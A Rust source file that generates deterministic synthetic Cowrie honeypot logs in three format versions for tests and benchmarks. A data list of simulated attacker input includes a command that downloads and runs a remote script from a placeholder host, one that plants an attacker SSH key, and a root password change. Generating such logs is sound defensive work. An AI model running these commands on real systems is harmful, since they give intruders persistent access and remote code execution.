//! A generator of realistic synthetic Cowrie logs in the formats of Cowrie 1.x,
//! 2.x and 3.x, deterministic for a given seed, for tests and benchmarks.
//!
//! Sessions follow the real lifecycles (scanner, brute force, intrusion with
//! commands and downloads, direct-tcpip tunnel, telnet) and interleave in time.

use chrono::{DateTime, Duration, Utc};
use serde_json::{Map, Value, json};
use std::io::{self, Write};

/// Which Cowrie generation's log format to write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CowrieFormat {
    /// 1.x (2018): `", "` separators, `system`/`isError` keys, KEX lists on `client.version`, float durations.
    V1,
    /// 2.x: compact, `client.kex` with HASSH, `session.params`, float or `"12.3"` string durations.
    V2,
    /// 3.x (≥3.0.6): connection fields on every event, `duration_ms`.
    V3,
}

impl std::str::FromStr for CowrieFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "1" | "1.x" | "v1" => Ok(CowrieFormat::V1),
            "2" | "2.x" | "v2" => Ok(CowrieFormat::V2),
            "3" | "3.x" | "v3" => Ok(CowrieFormat::V3),
            _ => Err(format!("unknown Cowrie format {s:?} (use 1, 2 or 3)")),
        }
    }
}

/// Generator settings.
#[derive(Debug, Clone)]
pub struct GenOptions {
    pub events: u64,
    pub format: CowrieFormat,
    pub seed: u64,
    pub start: DateTime<Utc>,
    /// Value of the `sensor` field (`""` like DShield sensors is allowed).
    pub sensor: String,
}

/// What was written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct GenStats {
    pub events: u64,
    pub sessions: u64,
}

/// SplitMix64: small, fast, deterministic.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn hex(&mut self, n: usize) -> String {
        let mut s = String::with_capacity(n);
        while s.len() < n {
            s.push_str(&format!("{:016x}", self.next()));
        }
        s.truncate(n);
        s
    }
}

const USERS: &[&str] = &[
    "root", "admin", "ubuntu", "test", "user", "oracle", "pi", "git", "support", "guest",
];
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "root",
    "1234",
    "12345678",
    "qwerty",
    "raspberry",
    "toor",
    "P@ssw0rd",
    "ubuntu",
    "test123",
];
const CLIENTS: &[&str] = &[
    "SSH-2.0-libssh2_1.8.0",
    "SSH-2.0-Go",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PuTTY_Release_0.70",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-paramiko_2.4.2",
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh",
    "echo \"root:Xq9vT2\"|chpasswd|bash",
    "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "enable",
    "system",
    "shell",
    "sh",
    "cat /bin/busybox || while read i; do echo $i; done < /bin/busybox",
    "/bin/busybox ECCHI",
    "nproc",
    "uptime",
];
const FAILED: &[&str] = &[
    "enable",
    "system",
    "shell",
    "top",
    "lscpu | grep Model",
    "/bin/busybox ECCHI",
];

struct Ev {
    ts: DateTime<Utc>,
    obj: Map<String, Value>,
}

struct SessionCtx {
    id: String,
    ip: String,
    src_port: u64,
    protocol: &'static str,
}

fn ip(rng: &mut Rng) -> String {
    if rng.chance(5) {
        format!(
            "2001:db8:{:x}:{:x}::{:x}",
            rng.below(65535),
            rng.below(65535),
            rng.below(65535) + 1
        )
    } else {
        format!(
            "{}.{}.{}.{}",
            rng.below(223) + 1,
            rng.below(256),
            rng.below(256),
            rng.below(254) + 1
        )
    }
}

struct Gen {
    rng: Rng,
    opts: GenOptions,
    clock: DateTime<Utc>,
    ip_pool: Vec<String>,
}

impl Gen {
    fn base(&mut self, s: &SessionCtx, eventid: &str, ts: DateTime<Utc>, message: Value) -> Ev {
        let mut o = Map::new();
        o.insert("eventid".into(), json!(eventid));
        let f = self.opts.format;
        if f == CowrieFormat::V3 {
            o.insert("src_ip".into(), json!(s.ip));
            o.insert("src_port".into(), json!(s.src_port));
            o.insert("dst_ip".into(), json!("10.0.0.5"));
            o.insert(
                "dst_port".into(),
                json!(if s.protocol == "telnet" { 23 } else { 22 }),
            );
            o.insert("protocol".into(), json!(s.protocol));
            o.insert("uuid".into(), json!("unknown"));
        }
        if !message.is_null() {
            o.insert("message".into(), message);
        }
        o.insert("sensor".into(), json!(self.opts.sensor));
        // Cowrie writes UTC as `Z` when TZ=UTC, otherwise with a `+0000` offset.
        let ts_text = if f == CowrieFormat::V3 && s.src_port.is_multiple_of(4) {
            ts.format("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string()
        } else {
            ts.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string()
        };
        o.insert("timestamp".into(), json!(ts_text));
        if f != CowrieFormat::V3 {
            o.insert("src_ip".into(), json!(s.ip));
        }
        o.insert("session".into(), json!(s.id));
        if f == CowrieFormat::V1 {
            o.insert("isError".into(), json!(0));
            o.insert(
                "system".into(),
                json!(format!(
                    "SSHService 'ssh-connection' on HoneyPotSSHTransport,{},{}",
                    self.rng.below(500),
                    s.ip
                )),
            );
        }
        Ev { ts, obj: o }
    }

    fn session(&mut self) -> Vec<Ev> {
        let f = self.opts.format;
        let kind = self.rng.below(100);
        let telnet = f != CowrieFormat::V1 && kind >= 97;
        let ip = if self.rng.chance(70) && !self.ip_pool.is_empty() {
            self.rng.pick(&self.ip_pool).clone()
        } else {
            let new = ip(&mut self.rng);
            if self.ip_pool.len() < 2000 {
                self.ip_pool.push(new.clone());
            }
            new
        };
        let s = SessionCtx {
            id: self.rng.hex(12),
            ip,
            src_port: 1024 + self.rng.below(64000),
            protocol: if telnet { "telnet" } else { "ssh" },
        };
        self.clock += Duration::milliseconds(200 + self.rng.below(20_000) as i64);
        let mut t = self.clock;
        let start = t;
        let mut step = |rng: &mut Rng, max_ms: u64| {
            t += Duration::microseconds((1_000 + rng.below(max_ms * 1000)) as i64);
            t
        };
        let mut out = Vec::new();
        let mut connect = self.base(
            &s,
            "cowrie.session.connect",
            start,
            json!(format!(
                "New connection: {}:{} (10.0.0.5:22) [session: {}]",
                s.ip, s.src_port, s.id
            )),
        );
        connect.obj.insert("src_port".into(), json!(s.src_port));
        connect.obj.insert("dst_ip".into(), json!("10.0.0.5"));
        connect
            .obj
            .insert("dst_port".into(), json!(if telnet { 23 } else { 22 }));
        connect.obj.insert("protocol".into(), json!(s.protocol));
        out.push(connect);
        if !telnet {
            let version = self.rng.pick(CLIENTS).to_string();
            let ts = step(&mut self.rng, 300);
            let mut e = self.base(
                &s,
                "cowrie.client.version",
                ts,
                json!(format!("Remote SSH version: {version}")),
            );
            e.obj.insert("version".into(), json!(version));
            if f == CowrieFormat::V1 {
                e.obj.insert(
                    "kexAlgs".into(),
                    json!([
                        "curve25519-sha256@libssh.org",
                        "diffie-hellman-group14-sha1"
                    ]),
                );
                e.obj.insert("keyAlgs".into(), json!(["ssh-rsa"]));
                e.obj
                    .insert("encCS".into(), json!(["aes128-ctr", "aes256-ctr"]));
                e.obj.insert("macCS".into(), json!(["hmac-sha2-256"]));
                e.obj.insert("compCS".into(), json!(["none"]));
            }
            out.push(e);
            if f != CowrieFormat::V1 {
                let ts = step(&mut self.rng, 300);
                let hassh = format!(
                    "{:032x}",
                    (self.rng.below(12) as u128 + 1)
                        * 0x1111_1111_1111_1111_1111_1111_1111_1111u128
                );
                let mut e = self.base(
                    &s,
                    "cowrie.client.kex",
                    ts,
                    json!(format!("SSH client hassh fingerprint: {hassh}")),
                );
                e.obj.insert("hassh".into(), json!(hassh));
                e.obj.insert(
                    "hasshAlgorithms".into(),
                    json!("curve25519-sha256;aes128-ctr;hmac-sha2-256;none"),
                );
                e.obj.insert(
                    "kexAlgs".into(),
                    json!(["curve25519-sha256", "diffie-hellman-group14-sha256"]),
                );
                e.obj
                    .insert("keyAlgs".into(), json!(["ssh-ed25519", "rsa-sha2-512"]));
                e.obj.insert("encCS".into(), json!(["aes128-ctr"]));
                e.obj.insert("macCS".into(), json!(["hmac-sha2-256"]));
                e.obj.insert("compCS".into(), json!(["none"]));
                e.obj.insert("langCS".into(), json!([""]));
                out.push(e);
            }
        }
        let scanner = kind < 35 && !telnet;
        let intruder = telnet || (75..90).contains(&kind);
        let tunnel = !telnet && (90..97).contains(&kind);
        let brute = !scanner && !intruder && !tunnel;
        if !scanner {
            let fails = if brute {
                1 + self.rng.below(6)
            } else {
                self.rng.below(3)
            };
            for _ in 0..fails {
                let (u, p) = (
                    self.rng.pick(USERS).to_string(),
                    self.rng.pick(PASSWORDS).to_string(),
                );
                let ts = step(&mut self.rng, 2000);
                let mut e = self.base(
                    &s,
                    "cowrie.login.failed",
                    ts,
                    json!(format!("login attempt [{u}/{p}] failed")),
                );
                e.obj.insert("username".into(), json!(u));
                e.obj.insert("password".into(), json!(p));
                out.push(e);
            }
        }
        if intruder || tunnel {
            let (u, p) = ("root".to_string(), self.rng.pick(PASSWORDS).to_string());
            let ts = step(&mut self.rng, 2000);
            let mut e = self.base(
                &s,
                "cowrie.login.success",
                ts,
                json!(format!("login attempt [{u}/{p}] succeeded")),
            );
            e.obj.insert("username".into(), json!(u));
            e.obj.insert("password".into(), json!(p));
            out.push(e);
        }
        if tunnel {
            let ts = step(&mut self.rng, 500);
            let dst = if self.rng.chance(20) {
                "2a00:1450:4001:80b::200e".to_string()
            } else {
                "ya.ru".to_string()
            };
            let mut e = self.base(
                &s,
                "cowrie.direct-tcpip.request",
                ts,
                json!(format!(
                    "direct-tcp connection request to {dst}:443 from ::1:5900"
                )),
            );
            e.obj.insert("dst_ip".into(), json!(dst));
            e.obj.insert("dst_port".into(), json!(443));
            e.obj.insert("src_port".into(), json!(5900));
            out.push(e);
            let ts = step(&mut self.rng, 500);
            let mut e = self.base(
                &s,
                "cowrie.direct-tcpip.data",
                ts,
                json!(format!(
                    "direct-tcp forward to {dst}:443 with data b'\\x16\\x03\\x01'"
                )),
            );
            e.obj.insert("dst_ip".into(), json!(dst));
            e.obj.insert("dst_port".into(), json!(443));
            e.obj.insert(
                "data".into(),
                json!("b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00'"),
            );
            e.obj.insert("id".into(), json!(0));
            out.push(e);
        }
        let mut tty = None;
        if intruder {
            if !telnet {
                let ts = step(&mut self.rng, 300);
                let mut e = self.base(&s, "cowrie.client.size", ts, json!("Terminal Size: 80 24"));
                e.obj.insert("width".into(), json!(80));
                e.obj.insert("height".into(), json!(24));
                out.push(e);
                if self.rng.chance(30) {
                    let ts = step(&mut self.rng, 300);
                    let mut e = self.base(
                        &s,
                        "cowrie.client.var",
                        ts,
                        json!("request_env: LANG=en_US.UTF-8"),
                    );
                    e.obj.insert("name".into(), json!("LANG"));
                    e.obj.insert("value".into(), json!("en_US.UTF-8"));
                    out.push(e);
                }
            }
            if f != CowrieFormat::V1 {
                let ts = step(&mut self.rng, 300);
                let mut e = self.base(&s, "cowrie.session.params", ts, json!([]));
                e.obj.insert("arch".into(), json!("linux-x64-lsb"));
                out.push(e);
            }
            let log = format!("var/lib/cowrie/tty/{}", self.rng.hex(64));
            let ts = step(&mut self.rng, 300);
            let mut e = self.base(
                &s,
                "cowrie.log.open",
                ts,
                json!(format!("Opening TTY Log: {log}")),
            );
            e.obj.insert("ttylog".into(), json!(log));
            out.push(e);
            tty = Some(log);
            let n = 1 + self.rng.below(12);
            for _ in 0..n {
                let cmd = self.rng.pick(COMMANDS).to_string();
                let ts = step(&mut self.rng, 3000);
                let mut e = self.base(&s, "cowrie.command.input", ts, json!(format!("CMD: {cmd}")));
                e.obj.insert("input".into(), json!(cmd));
                out.push(e);
                if FAILED.contains(&cmd.as_str()) {
                    let ts = step(&mut self.rng, 50);
                    let mut e = self.base(
                        &s,
                        "cowrie.command.failed",
                        ts,
                        json!(format!("Command not found: {cmd}")),
                    );
                    e.obj.insert("input".into(), json!(cmd));
                    out.push(e);
                }
                if cmd.contains("wget") {
                    let url = "http://198.51.100.7/bins.sh".to_string();
                    let ts = step(&mut self.rng, 3000);
                    if self.rng.chance(70) {
                        let sha = self.rng.hex(64);
                        let outfile = if f == CowrieFormat::V1 {
                            format!("dl/{sha}")
                        } else {
                            format!("var/lib/cowrie/downloads/{sha}")
                        };
                        let mut e = self.base(
                            &s,
                            "cowrie.session.file_download",
                            ts,
                            json!(format!(
                                "Downloaded URL ({url}) with SHA-256 {sha} to {outfile}"
                            )),
                        );
                        e.obj.insert("url".into(), json!(url));
                        e.obj.insert("outfile".into(), json!(outfile));
                        e.obj.insert("shasum".into(), json!(sha));
                        if f == CowrieFormat::V1 {
                            e.obj.insert("unique".into(), json!(true));
                        } else {
                            e.obj.insert("destfile".into(), json!("bins.sh"));
                            e.obj.insert("duplicate".into(), json!(false));
                        }
                        out.push(e);
                    } else {
                        let mut e =
                            self.base(&s, "cowrie.session.file_download.failed", ts, Value::Null);
                        if f == CowrieFormat::V2 {
                            e.obj.insert(
                                "format".into(),
                                json!("Attempt to download file(s) from URL (%(url)s) failed"),
                            );
                        } else {
                            e.obj.insert(
                                "message".into(),
                                json!(format!(
                                    "Attempt to download file(s) from URL ({url}) failed"
                                )),
                            );
                        }
                        e.obj.insert("url".into(), json!(url));
                        out.push(e);
                    }
                }
            }
        }
        let end = step(&mut self.rng, 4000);
        let secs = (end - start).num_milliseconds() as f64 / 1000.0;
        if let Some(log) = tty {
            let mut e = self.base(
                &s,
                "cowrie.log.closed",
                end,
                json!(format!("Closing TTY Log: {log} after {secs:.1} seconds")),
            );
            e.obj.insert("ttylog".into(), json!(log));
            e.obj
                .insert("size".into(), json!(100 + self.rng.below(5000)));
            if f != CowrieFormat::V1 {
                e.obj.insert("shasum".into(), json!(self.rng.hex(64)));
                e.obj.insert("duplicate".into(), json!(false));
            }
            self.duration(&mut e.obj, secs, false);
            out.push(e);
        }
        let end = end + Duration::microseconds(500);
        let mut e = self.base(
            &s,
            "cowrie.session.closed",
            end,
            json!(format!("Connection lost after {secs:.1} seconds")),
        );
        self.duration(&mut e.obj, secs, true);
        out.push(e);
        out
    }

    fn duration(&mut self, o: &mut Map<String, Value>, secs: f64, allow_string: bool) {
        match self.opts.format {
            CowrieFormat::V1 => {
                o.insert("duration".into(), json!(secs));
            }
            CowrieFormat::V2 => {
                if allow_string && self.rng.chance(30) {
                    o.insert("duration".into(), json!(format!("{secs:.1}")));
                } else {
                    o.insert("duration".into(), json!(secs));
                }
            }
            CowrieFormat::V3 => {
                o.insert("duration_ms".into(), json!((secs * 1000.0).round() as i64));
            }
        }
    }
}

/// Cowrie 1.x wrote `json.dumps` defaults: `", "` and `": "`.
struct SpacedFormatter;

impl serde_json::ser::Formatter for SpacedFormatter {
    fn begin_array_value<W: ?Sized + Write>(&mut self, w: &mut W, first: bool) -> io::Result<()> {
        if first { Ok(()) } else { w.write_all(b", ") }
    }
    fn begin_object_key<W: ?Sized + Write>(&mut self, w: &mut W, first: bool) -> io::Result<()> {
        if first { Ok(()) } else { w.write_all(b", ") }
    }
    fn begin_object_value<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        w.write_all(b": ")
    }
}

fn write_event<W: Write>(out: &mut W, ev: &Ev, format: CowrieFormat) -> io::Result<()> {
    let v = Value::Object(ev.obj.clone());
    if format == CowrieFormat::V1 {
        let mut ser = serde_json::Serializer::with_formatter(&mut *out, SpacedFormatter);
        serde::Serialize::serialize(&v, &mut ser).map_err(io::Error::other)?;
    } else {
        serde_json::to_writer(&mut *out, &v).map_err(io::Error::other)?;
    }
    out.write_all(b"\n")
}

/// Writes about `opts.events` events (whole sessions, so slightly more) to `out`.
pub fn generate<W: Write>(out: &mut W, opts: &GenOptions) -> io::Result<GenStats> {
    let mut g = Gen {
        rng: Rng(opts.seed ^ 0x5EED_C0DE),
        clock: opts.start,
        opts: opts.clone(),
        ip_pool: Vec::new(),
    };
    let mut stats = GenStats::default();
    while stats.events < opts.events {
        // A handful of overlapping sessions, merged in time order like a real log.
        let mut evs: Vec<Ev> = Vec::new();
        for _ in 0..8 {
            let s = g.session();
            stats.sessions += 1;
            stats.events += s.len() as u64;
            evs.extend(s);
            if stats.events >= opts.events {
                break;
            }
            g.clock -= Duration::milliseconds(g.rng.below(15_000) as i64);
        }
        evs.sort_by_key(|e| e.ts);
        if let Some(last) = evs.last() {
            g.clock = g.clock.max(last.ts - Duration::seconds(5));
        }
        for e in &evs {
            write_event(out, e, opts.format)?;
        }
    }
    Ok(stats)
}

/// Writes to a file; `.gz` and `.bz2` names are compressed.
pub fn generate_file(path: &std::path::Path, opts: &GenOptions) -> io::Result<GenStats> {
    let file = std::fs::File::create(path)?;
    let name = path.to_string_lossy();
    if name.ends_with(".gz") {
        let mut w =
            flate2::write::GzEncoder::new(io::BufWriter::new(file), flate2::Compression::default());
        let s = generate(&mut w, opts)?;
        w.finish()?.flush()?;
        Ok(s)
    } else if name.ends_with(".bz2") {
        let mut w =
            bzip2::write::BzEncoder::new(io::BufWriter::new(file), bzip2::Compression::default());
        let s = generate(&mut w, opts)?;
        w.finish()?.flush()?;
        Ok(s)
    } else {
        let mut w = io::BufWriter::new(file);
        let s = generate(&mut w, opts)?;
        w.flush()?;
        Ok(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse_record;

    fn opts(format: CowrieFormat) -> GenOptions {
        GenOptions {
            events: 3000,
            format,
            seed: 7,
            start: DateTime::parse_from_rfc3339("2024-01-10T00:00:00Z")
                .unwrap()
                .with_timezone(&Utc),
            sensor: "gen".into(),
        }
    }

    #[test]
    fn every_generated_line_parses_in_every_format() {
        for f in [CowrieFormat::V1, CowrieFormat::V2, CowrieFormat::V3] {
            let mut buf = Vec::new();
            let st = generate(&mut buf, &opts(f)).unwrap();
            let lines: Vec<&[u8]> = buf
                .split(|&b| b == b'\n')
                .filter(|l| !l.is_empty())
                .collect();
            assert_eq!(lines.len() as u64, st.events);
            assert!(st.events >= 3000 && st.sessions > 100, "{st:?}");
            let mut types = std::collections::BTreeSet::new();
            let mut closed_with_duration = 0;
            for l in &lines {
                let e = parse_record(l, "x").expect("generated line parses");
                if e.event_type == "cowrie.session.closed" && e.duration_seconds.is_some() {
                    closed_with_duration += 1;
                }
                types.insert(e.event_type);
            }
            assert!(types.contains("cowrie.command.input"), "{f:?} {types:?}");
            assert!(
                types.contains("cowrie.session.file_download"),
                "{f:?} {types:?}"
            );
            assert_eq!(closed_with_duration, st.sessions, "{f:?}");
            if f == CowrieFormat::V1 {
                assert!(lines[0].windows(3).any(|w| w == b"\": "), "1.x separators");
            }
        }
    }

    #[test]
    fn same_seed_same_bytes() {
        let (mut a, mut b) = (Vec::new(), Vec::new());
        generate(&mut a, &opts(CowrieFormat::V2)).unwrap();
        generate(&mut b, &opts(CowrieFormat::V2)).unwrap();
        assert_eq!(a, b);
    }
}
